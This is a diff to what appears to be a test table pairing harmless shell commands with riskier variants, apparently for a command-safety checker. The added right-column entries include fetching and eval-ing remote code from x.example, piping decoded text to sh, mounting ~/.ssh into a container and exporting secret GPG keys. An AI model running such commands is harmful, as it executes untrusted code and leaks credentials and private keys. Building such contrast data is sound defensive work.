@@ -37,6 +37,13 @@ export https_proxy=http://localhost:3128                 | export https_proxy=ht
 ls /dev/input/by-id                                      | cat /dev/input/event3
 gpg --export ann > ann.asc                               | gpg --export-secret-keys ann > ann.asc
 frobdb offline                                           | frobdb offline cluster west
+chmod -R u+rwX project                                   | chmod -R g+rwX project
+sudo apt update                                          | sudo apt upgrade
+node -e "fetch('http://x.example').then(console.log)"    | node -e "require('https').get('https://x.example',r=>r.on('data',d=>eval(''+d)))"
+echo uryyb ¦ tr a-z n-za-m                                | echo uryyb ¦ tr a-z n-za-m ¦ sh
+docker run -v "$PWD/data:/data" reader                   | docker run -v ~/.ssh:/k reader
+ln -s ../lib/a.so lib/b.so                               | sudo ln -sfn /opt/a.so /usr/lib/b.so
+gpg --export ann > /tmp/ann.asc                          | gpg --export-secret-keys -o /tmp/ann.asc ann
 wrk -d5s http://localhost:8080/                          | wrk -d5s http://shop.example.com/
 go clean -n                                              | go clean -modcache
 cmake --install build --prefix out                       | cmake --install build
